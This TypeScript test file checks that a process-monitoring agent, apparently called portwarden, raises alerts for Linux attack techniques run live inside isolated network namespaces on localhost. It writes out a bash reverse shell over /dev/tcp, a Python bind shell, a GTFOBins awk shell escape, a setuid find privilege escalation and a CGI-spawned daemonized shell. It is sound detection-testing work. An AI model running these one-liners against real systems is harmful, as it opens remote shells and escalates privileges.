/**
 * Issue 21's Linux attack classes against the real agent (`portwarden run`): real processes, and
 * the alert documents that come out of its output. The reverse shell connects to a listener, and
 * the bind shell listens, in private network namespaces the test makes. Each class runs twice:
 * with polling only (250 ms; each attack process lives about 2 s) and with the real-time source
 * (eBPF), which sees every exec with the credentials the kernel gave it.
 */
import { test } from 'node:test';
import type { TestContext } from 'node:test';
import assert from 'node:assert/strict';
import { execFile, execFileSync, spawn } from 'node:child_process';
import { chmodSync, copyFileSync, existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { EcsDocument } from '../../../agent/ecs/document.js';
import { getField } from '../../../agent/ecs/document.js';
import type { RunningAgent } from '../../helpers/agent-process.js';
import { waitFor } from '../../helpers/wait.js';
import { alertOf, checkAlert, events, netns, printedPort, run, startWith } from './live-helpers.js';

const root = process.getuid?.() === 0;

/**
 * Web-server context: lighttpd in a private namespace runs a CGI shell script that runs a
 * discovery tool, a shell, and a shell that daemonizes (setsid ... &) and runs uname after its
 * parent is gone. Polling sees the 2 s shell under the CGI; the real-time source also sees the
 * short `id` and keeps the daemonized shell's ancestry from its fork.
 */
async function webContext(t: TestContext, agent: RunningAgent, realtime: 'off' | 'ebpf'): Promise<void> {
  if (!existsSync('/usr/sbin/lighttpd')) {
    t.diagnostic('web-server context part skipped: lighttpd is not installed');
    return;
  }
  const dir = mkdtempSync(join('/tmp', 'pw-cgi-'));
  t.after(() => { rmSync(dir, { recursive: true, force: true }); });
  mkdirSync(join(dir, 'www'));
  mkdirSync(join(dir, 'cgi-bin'));
  const cgi = join(dir, 'cgi-bin', 'status.cgi');
  writeFileSync(cgi, "#!/bin/sh\nprintf 'Content-Type: text/plain\\r\\n\\r\\n'\nid\nsh -c 'sleep 2; true'\nsetsid sh -c 'sleep 2; uname -a' </dev/null >/dev/null 2>&1 &\n");
  chmodSync(cgi, 0o755);
  writeFileSync(join(dir, 'lighttpd.conf'), [
    `server.document-root = "${dir}/www"`, 'server.bind = "127.0.0.1"', 'server.port = 8080', 'server.modules = ("mod_alias", "mod_cgi")',
    `alias.url = ("/cgi-bin/" => "${dir}/cgi-bin/")`, 'cgi.assign = (".cgi" => "")', `server.errorlog = "${dir}/error.log"`, ''].join('\n'));
  const ns = netns(t, 'pw-cgi');
  const server = spawn('ip', ['netns', 'exec', ns, 'lighttpd', '-D', '-f', join(dir, 'lighttpd.conf')], { stdio: 'ignore' });
  t.after(() => { server.kill('SIGKILL'); });
  const fetch = ['netns', 'exec', ns, 'python3', '-c', 'import urllib.request; urllib.request.urlopen("http://127.0.0.1:8080/cgi-bin/status.cgi").read()'];
  await waitFor('lighttpd answering', () => new Promise<true | undefined>((resolve) => { execFile('ip', fetch, (err) => { resolve(err === null ? true : undefined); }); }), 30_000);
  const underCgi = (d: EcsDocument) => String(getField(d, 'process.parent.command_line')).includes(cgi);
  const sub = await alertOf(agent, 'pw-lnx-webserver-descendant-shell', (d) => underCgi(d) && getField(d, 'process.name') === 'sh');
  checkAlert(sub, 'pw-lnx-webserver-descendant-shell');
  assert.equal(getField(sub, 'process.command_line'), "sh -c 'sleep 2; true'");
  assert.ok((getField(sub, 'portwarden.lineage') as { name: string }[]).some((a) => a.name === 'lighttpd'));
  if (realtime === 'off') return;
  const recon = await alertOf(agent, 'pw-lnx-cgi-recon', (d) => underCgi(d) && getField(d, 'process.name') === 'id');
  checkAlert(recon, 'pw-lnx-cgi-recon');
  assert.equal(getField(recon, 'event.severity'), 73);
  // The daemonized shell's uname: its parent shell was reparented, its fork-time ancestry kept.
  const detached = await alertOf(agent, 'pw-lnx-webserver-descendant-shell', (d) => getField(d, 'process.name') === 'uname'
    && (getField(d, 'portwarden.lineage') as { name?: string; command_line?: string }[] | undefined)?.some((a) => a.command_line?.includes(cgi) === true) === true);
  assert.ok((getField(detached, 'portwarden.lineage') as { name: string }[]).some((a) => a.name === 'lighttpd'));
}

/** Every class, against an agent that is already reporting new processes. */
async function attackClasses(t: TestContext, agent: RunningAgent, realtime: 'off' | 'ebpf'): Promise<void> {
  const me = process.pid;

  // Class 4: GTFOBins awk shell, awk 'BEGIN {system("/bin/sh")}': awk runs sh -c /bin/sh, which
  // becomes /bin/sh in place and reads commands from the terminal (here a pipe) for two seconds.
  const awk = spawn('awk', ['BEGIN {system("/bin/sh")}'], { stdio: ['pipe', 'ignore', 'ignore'] });
  t.after(() => { awk.kill('SIGKILL'); });
  awk.stdin.end('sleep 2\nexit\n');
  const awkPid = awk.pid ?? -1;
  const escape = await alertOf(agent, 'pw-lnx-shell-escape', (d) => getField(d, 'process.parent.pid') === awkPid);
  checkAlert(escape, 'pw-lnx-shell-escape');
  assert.equal(getField(escape, 'process.name'), 'sh');
  assert.match(String(getField(escape, 'process.parent.name')), /^[gmn]?awk$/);
  assert.match(String(getField(escape, 'process.command_line')), /^(sh -c )?\/bin\/sh$/);
  assert.deepEqual(getField(escape, 'threat.technique.subtechnique.id'), ['T1059.004']);

  // Class 3: a script written to a temp directory and handed to sh (Atomic Red Team T1059.004 #1).
  const dir = mkdtempSync(join('/tmp', 'pw-live-'));
  t.after(() => { rmSync(dir, { recursive: true, force: true }); });
  const script = join(dir, 'art.sh');
  writeFileSync(script, 'id >/dev/null\nsleep 2\n');
  chmodSync(script, 0o644);
  const shPid = await run('sh', [script]);
  const temp = await alertOf(agent, 'pw-lnx-script-from-temp', (d) => getField(d, 'process.pid') === shPid);
  checkAlert(temp, 'pw-lnx-script-from-temp');
  assert.equal(getField(temp, 'process.name'), 'sh');
  assert.deepEqual(getField(temp, 'process.args'), ['sh', script]);
  assert.equal(getField(temp, 'process.parent.pid'), me);
  assert.equal(getField(temp, 'event.severity'), 47);

  // Class 1: bash -i >& /dev/tcp/127.0.0.1/PORT inside a private network namespace, to a listener
  // there that holds the connection until the alerts are out, then sends "exit" and hangs up.
  const ns = netns(t, 'pw-live');
  const listener = spawn('ip', ['netns', 'exec', ns, 'python3', '-c',
    'import socket,sys\ns=socket.socket()\ns.bind(("127.0.0.1",0))\ns.listen(1)\nprint(s.getsockname()[1],flush=True)\nc,_=s.accept()\nsys.stdin.read()\nc.sendall(b"exit\\n")\nc.recv(64)\nc.close()'], { stdio: ['pipe', 'pipe', 'inherit'] });
  t.after(() => { listener.kill('SIGKILL'); });
  const port = await printedPort(listener, 'listener');
  const shell = spawn('ip', ['netns', 'exec', ns, 'bash', '-c', `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`], { stdio: 'ignore' });
  const shellExit = new Promise((resolve) => { shell.once('exit', resolve); });
  t.after(() => { shell.kill('SIGKILL'); });
  const bashPid = shell.pid ?? -1;
  // ip netns exec becomes bash -c in place (one pid), which runs bash -i as its child with the
  // socket as stdin: the one-liner raises the command line alert, the child the stdin alert.
  const rev = await alertOf(agent, 'pw-reverse-shell-cmdline', (d) => getField(d, 'process.pid') === bashPid);
  checkAlert(rev, 'pw-reverse-shell-cmdline');
  assert.match(String(getField(rev, 'process.command_line')), new RegExp(`bash -i >& /dev/tcp/127\\.0\\.0\\.1/${port} 0>&1`));
  assert.equal(getField(rev, 'process.parent.pid'), me);
  assert.equal(getField(rev, 'event.severity'), 73);
  const stdin = await alertOf(agent, 'pw-lnx-shell-tcp-stdin', (d) => getField(d, 'process.parent.pid') === bashPid || getField(d, 'process.pid') === bashPid);
  checkAlert(stdin, 'pw-lnx-shell-tcp-stdin');
  assert.equal(getField(stdin, 'process.name'), 'bash');
  assert.equal(getField(stdin, 'process.command_line'), 'bash -i');
  assert.equal(getField(stdin, 'portwarden.process.stdin'), 'tcp');
  assert.equal(getField(stdin, 'event.severity'), 99);
  listener.stdin.end();
  await shellExit;

  // Bind shell: a Python one-liner listens in a private namespace and hands the connection it
  // accepts to sh -i (PayloadsAllTheThings' Python bind shell, subprocess form). Its command line
  // names no shell a rule could read; what gives it away is a listening process starting a shell.
  const bns = netns(t, 'pw-bind');
  const bind = spawn('ip', ['netns', 'exec', bns, 'python3', '-c',
    'import socket,subprocess\ns=socket.socket()\ns.bind(("127.0.0.1",0))\ns.listen(1)\nprint(s.getsockname()[1],flush=True)\nc,_=s.accept()\nsubprocess.call(["/bin/sh","-i"],stdin=c.fileno(),stdout=c.fileno(),stderr=c.fileno())'],
  { stdio: ['ignore', 'pipe', 'inherit'] });
  t.after(() => { bind.kill('SIGKILL'); });
  const bindPid = bind.pid ?? -1;
  const bindPort = await printedPort(bind, 'bind shell');
  // The agent has seen it listen before anyone connects (ip netns exec becomes python3 in place).
  await waitFor('the bind shell\'s listener', () => events(agent).find((d) => d.event.action === 'listening_started' && getField(d, 'destination.port') === bindPort && getField(d, 'process.pid') === bindPid), 45_000);
  await run('ip', ['netns', 'exec', bns, 'python3', '-c',
    `import socket\nc=socket.create_connection(("127.0.0.1",${bindPort}))\nc.sendall(b"sleep 2\\nexit\\n")\nwhile c.recv(4096): pass`]);
  const bound = await alertOf(agent, 'pw-listener-owner-spawned-shell', (d) => getField(d, 'process.parent.pid') === bindPid);
  checkAlert(bound, 'pw-listener-owner-spawned-shell');
  assert.equal(getField(bound, 'process.name'), 'sh');
  assert.match(String(getField(bound, 'process.parent.name')), /^python3/);
  assert.equal(getField(bound, 'event.severity'), 47);
  assert.deepEqual(getField(bound, 'threat.technique.id'), ['T1059']);

  await webContext(t, agent, realtime);

  // Privilege change: GTFOBins' SUID find (find . -exec /bin/sh -p \; -quit) with a setuid-root
  // copy of find run by nobody; sh -p keeps the effective uid 0.
  const sdir = mkdtempSync(join('/tmp', 'pw-suid-'));
  t.after(() => { rmSync(sdir, { recursive: true, force: true }); });
  chmodSync(sdir, 0o755);
  const opts = execFileSync('findmnt', ['-n', '-o', 'OPTIONS', '-T', sdir]).toString();
  if (/\bnosuid\b/.test(opts)) {
    t.diagnostic(`setuid part skipped: ${sdir} is on a nosuid mount`);
    return;
  }
  const find = join(sdir, 'find');
  copyFileSync('/usr/bin/find', find);
  chmodSync(find, 0o4755);
  const findPid = await run('setpriv', ['--reuid=65534', '--regid=65534', '--clear-groups', find, sdir, '-maxdepth', '0', '-exec', '/bin/sh', '-p', '-c', 'sleep 2; true', ';']);
  const suidShell = await alertOf(agent, 'pw-lnx-setuid-program-shell', (d) => getField(d, 'process.parent.pid') === findPid);
  checkAlert(suidShell, 'pw-lnx-setuid-program-shell');
  assert.equal(getField(suidShell, 'process.name'), 'sh');
  assert.equal(getField(suidShell, 'process.parent.user.id'), '0');
  assert.equal(getField(suidShell, 'process.parent.real_user.id'), '65534');
  assert.equal(getField(suidShell, 'event.severity'), 73);
  assert.deepEqual(getField(suidShell, 'threat.technique.subtechnique.id'), ['T1548.001']);
  const shellPriv = await alertOf(agent, 'pw-lnx-setuid-shell', (d) => getField(d, 'process.parent.pid') === findPid);
  assert.equal(getField(shellPriv, 'process.user.id'), '0');
  assert.equal(getField(shellPriv, 'process.real_user.id'), '65534');
  const unknown = await alertOf(agent, 'pw-lnx-unknown-setuid-root', (d) => getField(d, 'process.pid') === findPid);
  assert.equal(getField(unknown, 'process.executable'), find);
}

for (const realtime of ['off', 'ebpf'] as const) {
  test(`Linux attack classes under the real agent (source.realtime: ${realtime}): shell escape, script from /tmp, reverse shell, bind shell, CGI and daemonized web shell, setuid shell`, { skip: !root && 'needs root (eBPF, network namespaces, setuid files)' }, async (t) => {
    const agent = await startWith(t, realtime);
    if (agent !== undefined) await attackClasses(t, agent, realtime);
  });
}
